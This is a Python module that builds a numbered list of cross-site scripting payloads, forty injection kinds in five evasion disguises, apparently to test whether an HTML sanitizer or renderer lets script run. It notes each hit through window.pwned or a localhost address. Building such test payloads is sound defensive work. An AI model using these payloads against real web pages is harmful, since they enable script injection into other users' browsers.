"""Texts that become script where a page takes text for markup: forty known kinds, five disguises.

The kinds are those of public collections of such attacks (elements with handlers, script and style
elements, addresses with a script, broken quotes and comments, templates, what only a repairing
parser makes dangerous). CALL notes in the page that it ran; OUT is an address that notes a visit.
"""

from __future__ import annotations

from collections.abc import Callable
from html import escape
from typing import Final

CALL: Final = "window.pwned.push('CALLED')"
OUT: Final = "http://127.0.0.1:{port}/"

_KINDS: Final = (
    '<img src=x onerror="CALL">',
    "<img src=x onerror=CALL>",
    "<img/src=x/onerror=CALL>",
    '<img src="OUT" onload="CALL">',
    '<img srcset="OUT 1x" onerror="CALL">',
    "<script>CALL</script>",
    '<script src="OUTa.js"></script>',
    '<script type=module>import "OUTb.js"</script>',
    "<script>/*</script><svg onload=CALL>*/</script>",
    '<svg onload="CALL">',
    "<svg><script>CALL</script></svg>",
    '<svg><animate onbegin="CALL" attributeName=x dur=1s>',
    '<svg><use href="OUTc.svg#x"></use></svg>',
    '<svg><a xlink:href="javascript:CALL"><text x=20 y=20>x</text></a></svg>',
    "<math><mtext></table><img src onerror=CALL></mtext></math>",
    "<iframe srcdoc=\"<script>parent.window.pwned.push('CALLED')</script>\"></iframe>",
    '<iframe src="javascript:CALL"></iframe>',
    '<iframe src="OUTd"></iframe>',
    '<object data="OUTe"></object>',
    '<embed src="OUTf">',
    '<a href="javascript:CALL" autofocus onfocus="CALL">x</a>',
    '<a href="data:text/html,<script>CALL</script>">x</a>',
    '<form action="OUTg"><input type=submit formaction="javascript:CALL"></form>',
    "<input autofocus onfocus=CALL>",
    "<select autofocus onfocus=CALL></select>",
    "<textarea autofocus onfocus=CALL></textarea>",
    "<details open ontoggle=CALL>x</details>",
    "<video src=x onerror=CALL></video>",
    "<audio src=x onerror=CALL></audio>",
    "<video><source onerror=CALL></video>",
    "<body onload=CALL onpageshow=CALL>",
    "<marquee onstart=CALL>x</marquee>",
    '<meta http-equiv="refresh" content="0;url=OUTh">',
    '<link rel="stylesheet" href="OUTi.css">',
    '<style>@import url("OUTj.css"); * { background: url(OUTk) }</style>',
    "<base href=\"OUTl\"><script src='m.js'></script>",
    '<div style="background:url(OUTn);animation:x" onanimationstart=CALL>x</div>',
    "<template><script>CALL</script></template><noscript><img src=x onerror=CALL></noscript>",
    "${CALL}{{CALL}}#{CALL}<%= CALL %>",
    "');CALL;//\\');CALL;//",
)
_DISGUISES: Final[tuple[Callable[[str], str], ...]] = (
    str,
    lambda text: f"\"'>--></title></textarea></style></script>{text}",
    lambda text: text.replace("<", "<\x00").replace("on", "oN").replace("script", "ScRiPt"),
    escape,
    lambda text: f"\u2028{text[: len(text) // 2]}\n\t{text[len(text) // 2 :]}\u2029\ufeff",
)


def payloads(port: int) -> tuple[str, ...]:
    """All of them, each with its own number, so that it is known which one ran or called."""
    made: list[str] = []
    for kind in _KINDS:
        for disguise in _DISGUISES:
            number = len(made)
            call = CALL.replace("CALLED", f"no {number}")
            plain = kind.replace("CALLED", f"no {number}").replace("CALL", call)
            made.append(disguise(plain.replace("OUT", f"{OUT.format(port=port)}{number}/")))
    return tuple(made)
